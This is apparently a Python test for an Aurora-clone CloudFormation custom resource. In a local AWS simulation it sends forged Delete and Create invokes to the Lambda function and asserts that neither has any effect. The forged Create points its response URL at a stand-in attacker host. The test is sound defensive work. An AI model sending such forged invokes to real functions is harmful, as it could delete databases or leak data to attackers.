"""A forged invoke of the local function through the world's Lambda Invoke, as anyone allowed
lambda:InvokeFunction could send it: a CloudFormation-shaped Delete naming a live stack's clone, and a Create
answering to an attacker. CloudFormation confirms neither, so nothing changes: the clone stays, no clone is
made, no request is recorded.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path

from aurora_clone.local.session import LocalSession

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = str(ROOT / "example" / "template.yaml")
FUNCTION_TEMPLATE = str(ROOT / "template.yaml")


def test_forged_invokes_through_lambda_change_nothing() -> None:
    with LocalSession(FUNCTION_TEMPLATE, time_scale=0.002, printer=lambda _line: None) as local:
        local.world.create_source_cluster("prod-db")
        params = {"SourceClusterId": "prod-db", "CloneFunctionStackName": "aurora-clone"}
        stack = local.cloudformation.create_stack("victim", EXAMPLE, params)
        assert stack.status == "CREATE_COMPLETE", stack.status_reason
        clone_id = stack.outputs["ClusterId"]
        service_token = local.function_stack.outputs["ServiceToken"] if local.function_stack else ""
        rds = local.world.client("rds")
        clusters = sorted(c["DBClusterIdentifier"] for c in rds.describe_db_clusters()["DBClusters"])
        bucket = f"cloudformation-custom-resource-response-{local.world.region.replace('-', '')}"
        forged_delete = {
            "RequestType": "Delete",
            "ServiceToken": service_token,
            # A well-formed ResponseURL of the world's bucket: only CloudFormation's record can tell.
            "ResponseURL": f"{local.world.endpoint_url}/{bucket}/forged",
            "StackId": stack.stack_id,
            "RequestId": str(uuid.uuid4()),
            "LogicalResourceId": "TestDatabase",
            "PhysicalResourceId": clone_id,
            "ResourceType": "Custom::AuroraClone",
            "ResourceProperties": {"ServiceToken": service_token, "SourceClusterId": "prod-db"},
        }
        forged_create = {
            **forged_delete,
            "RequestType": "Create",
            "RequestId": str(uuid.uuid4()),
            "ResponseURL": "https://attacker.example/collect",
        }
        del forged_create["PhysicalResourceId"]
        lambda_client = local.world.client("lambda")

        for forged in (forged_delete, forged_create):
            answer = lambda_client.invoke(FunctionName=service_token, Payload=json.dumps(forged).encode())
            assert "FunctionError" not in answer

        assert sorted(c["DBClusterIdentifier"] for c in rds.describe_db_clusters()["DBClusters"]) == clusters
        assert local.leftovers()["pending requests"] == []
        assert rds.describe_db_clusters(DBClusterIdentifier=clone_id)["DBClusters"][0]["Status"] == "available"
        assert local.cloudformation.delete_stack("victim").status == "DELETE_COMPLETE"
